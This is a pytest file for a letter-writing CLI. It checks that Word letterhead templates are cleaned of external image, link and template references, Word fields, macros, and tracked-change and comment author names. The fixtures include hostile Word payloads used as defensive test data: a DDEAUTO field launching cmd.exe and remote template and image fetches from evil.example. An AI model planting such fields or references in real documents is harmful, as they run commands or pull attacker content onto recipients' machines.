"""What a team's letterhead may not bring into a letter is left out and named; `playbook check` sees what a letter sees."""

from __future__ import annotations

import re
import zipfile
from io import BytesIO
from pathlib import Path

import docx
import pytest

from huikuan_cli.errors import HuikuanError
from huikuan_cli.render.letterhead import cleaned
from huikuan_cli.render.word import document_docx, left_out
from paper.test_word import LETTER, letterhead

P = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
EXTERNAL = '<Relationship Id="{id}" Type="' + P + '/{kind}" Target="{target}" TargetMode="External"/>'
PICTURE = (
    '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing">'
    '<a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="'
    + P
    + '" r:link="rId901"/>'
    "</wp:inline></w:drawing></w:r></w:p>"
)
LINK = f'<w:p><w:hyperlink xmlns:r="{P}" r:id="rId901"><w:r><w:t>公司网址</w:t></w:r></w:hyperlink></w:p>'


def field(instruction: str, shown: str = "显示的字") -> str:
    """A field in four runs, its instruction torn in two as Word does."""
    half = len(instruction) // 2
    runs = [
        '<w:fldChar w:fldCharType="begin"/>',
        f"<w:instrText>{instruction[:half]}</w:instrText>",
        f"<w:instrText>{instruction[half:]}</w:instrText>",
        '<w:fldChar w:fldCharType="separate"/>',
        f"<w:t>{shown}</w:t>",
        '<w:fldChar w:fldCharType="end"/>',
    ]
    return "<w:p>" + "".join(f"<w:r>{one}</w:r>" for one in runs) + "</w:p>"


CHANGE = 'w:id="1" w:author="张三" w:date="2026-01-01T00:00:00Z"'
INSERTED = f"<w:p><w:ins {CHANGE}><w:r><w:t>加上的</w:t></w:r></w:ins></w:p>"
DELETED = f"<w:p><w:del {CHANGE}><w:r><w:delText>删掉的</w:delText></w:r></w:del></w:p>"
RESTYLED = (
    f"<w:p><w:pPr><w:rPr><w:ins {CHANGE}/></w:rPr><w:pPrChange {CHANGE}><w:pPr/></w:pPrChange></w:pPr></w:p>"
)


def made(body: str = "", links: str = "", part: str = "word/document.xml", **more: bytes) -> bytes:
    """A letterhead with this XML at the head of a part, links of it, and further parts."""
    source, target = BytesIO(letterhead("上面", "〔正文〕")), BytesIO()
    folder, _, file = part.rpartition("/")
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w") as new:
        names = set(old.namelist())
        for name in names:
            raw = old.read(name).decode("utf-8", "surrogateescape")
            if name == part:
                raw = re.sub(r"(<w:body>|<w:hdr [^>]*>)", lambda found: found[0] + body, raw, count=1)
            if name == f"{folder}/_rels/{file}.rels":
                raw = raw.replace("</Relationships>", links + "</Relationships>")
            new.writestr(name, raw.encode("utf-8", "surrogateescape"))
        if f"{folder}/_rels/{file}.rels" not in names and links:
            head = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            new.writestr(f"{folder}/_rels/{file}.rels", head + links + "</Relationships>")
        for name, raw_bytes in more.items():
            new.writestr(f"word/{name.replace('_', '.')}", raw_bytes)
    return target.getvalue()


def whole(raw: bytes) -> str:
    """Every part of a Word file as text."""
    with zipfile.ZipFile(BytesIO(raw)) as packed:
        return "\n".join(name + packed.read(name).decode("utf-8", "replace") for name in packed.namelist())


EVIL = "http://evil.example/x"
PARTS = ["word/document.xml", "word/header1.xml"]


def outside(kind: str) -> str:
    return EXTERNAL.format(id="rId901", kind=kind, target=EVIL)


@pytest.mark.parametrize("part", PARTS)
@pytest.mark.parametrize(
    ("body", "links", "named", "gone", "stays"),
    [
        (PICTURE, outside("image"), EVIL, "evil.example", "上面"),
        (LINK, outside("hyperlink"), EVIL, "evil.example", "公司网址"),
        ("", outside("attachedTemplate"), EVIL, "evil.example", "上面"),
        (field('DDEAUTO c:\\\\cmd.exe "/k calc"'), "", "DDE", "calc", "显示的字"),
        (field(' INCLUDETEXT "C:\\\\secret.docx" '), "", "INCLUDETEXT", "secret.docx", "显示的字"),
        (field("includepicture http://evil.example/p.png"), "", "域", "evil.example", "显示的字"),
        (
            '<w:p><w:fldSimple w:instr=" LINK Excel c:\\\\a.xls "><w:r><w:t>表</w:t></w:r></w:fldSimple></w:p>',
            "",
            "域",
            "a.xls",
            "表",
        ),
        (INSERTED, "", "张三", "张三", "加上的"),
        (DELETED, "", "张三", "删掉的", "上面"),
        (RESTYLED, "", "张三", "张三", "上面"),
    ],
    ids=[
        "picture",
        "link",
        "template",
        "dde",
        "includetext",
        "includepicture",
        "simple",
        "ins",
        "del",
        "style",
    ],
)
def test_what_fetches_or_names_somebody_is_left_out_and_named(part, body, links, named, gone, stays):
    raw = made(body, links, part)
    assert gone in whole(raw)
    (said,) = left_out(raw)
    assert named in said
    paper = document_docx(LETTER, raw)
    assert gone not in whole(paper)
    assert stays in whole(paper)
    assert "关于付款的函" in whole(paper)


def test_macros_and_the_names_of_those_who_commented_are_left_out():
    comment = (
        '<w:comments xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        '<w:comment w:id="0" w:author="李四"><w:p><w:r><w:t>别发</w:t></w:r></w:p></w:comment></w:comments>'
    )
    inside = '<Relationship Id="rId90{n}" Type="{type}" Target="{target}"/>'
    links = inside.format(n=1, type=f"{P}/comments", target="comments.xml") + inside.format(
        n=2, type="http://schemas.microsoft.com/office/2006/relationships/vbaProject", target="vba.bin"
    )
    body = '<w:p><w:r><w:t>留着</w:t><w:commentReference w:id="0"/></w:r></w:p>'
    raw = made(body, links, comments_xml=comment.encode(), vba_bin=b"MACRO")
    assert [one[:2] for one in left_out(raw)] == ["宏", "修订"]
    paper = whole(document_docx(LETTER, raw))
    assert "留着" in paper
    assert not re.search("李四|别发|MACRO|commentReference|vba", paper)


@pytest.mark.parametrize(
    "body", ["", field(" PAGE "), field(' DATE \\@ "yyyy" ')], ids=["plain", "page", "date"]
)
def test_what_is_harmless_is_taken_as_it_is(body):
    raw = made(body)
    assert cleaned(raw) == (raw, ())
    assert left_out(raw) == ()


def test_a_text_of_more_than_five_megabytes_is_refused():
    raw = made("<w:p><w:r><w:t>" + "长" * 1_700_000 + "</w:t></w:r></w:p>")
    with pytest.raises(HuikuanError, match="太大"):
        document_docx(LETTER, raw)


def test_playbook_check_opens_a_letterhead_as_a_letter_does(huikuan, tmp_path: Path):
    place = tmp_path / "打法" / "templates" / "letter.docx"
    place.parent.mkdir(parents=True)
    place.write_bytes(made(DELETED))
    done = huikuan("playbook", "check", place.parents[1])
    assert done.code == 0
    assert "提醒 P611 信头里有修订和批注（里面有名字：张三）" in done.out
    broken = BytesIO(made())
    with zipfile.ZipFile(BytesIO(made())) as old, zipfile.ZipFile(broken, "w") as new:
        for name in old.namelist():
            new.writestr(name, b"<w:styles" if name == "word/styles.xml" else old.read(name))
    place.write_bytes(broken.getvalue())
    with pytest.raises(HuikuanError):
        document_docx(LETTER, broken.getvalue())
    done = huikuan("playbook", "check", place.parents[1])
    assert done.code == 1
    assert "P606" in done.out


def test_a_letter_says_what_of_the_letterhead_is_not_in_it(huikuan, tmp_path: Path):
    from cli.helpers import DAY, GOOD

    team = tmp_path / "打法"
    (team / "templates").mkdir(parents=True)
    (team / "templates" / "letter.docx").write_bytes(made(INSERTED))
    made_of = ("--playbooks", team, "--today", DAY)
    assert huikuan("plan", "--answers", GOOD, "--out", tmp_path / "计划", *made_of).code == 0
    (plan,) = (tmp_path / "计划").glob("*.plan.yaml")
    done = huikuan("letter", plan, "--kind", "催款函", "--format", "docx", *made_of)
    assert done.code == 0, done.err
    assert "templates/letter.docx 里有修订和批注（里面有名字：张三），没有放进函里" in done.err
    (paper,) = plan.parent.glob("*.催款函.docx")
    assert "张三" not in whole(paper.read_bytes())
    assert docx.Document(paper).paragraphs
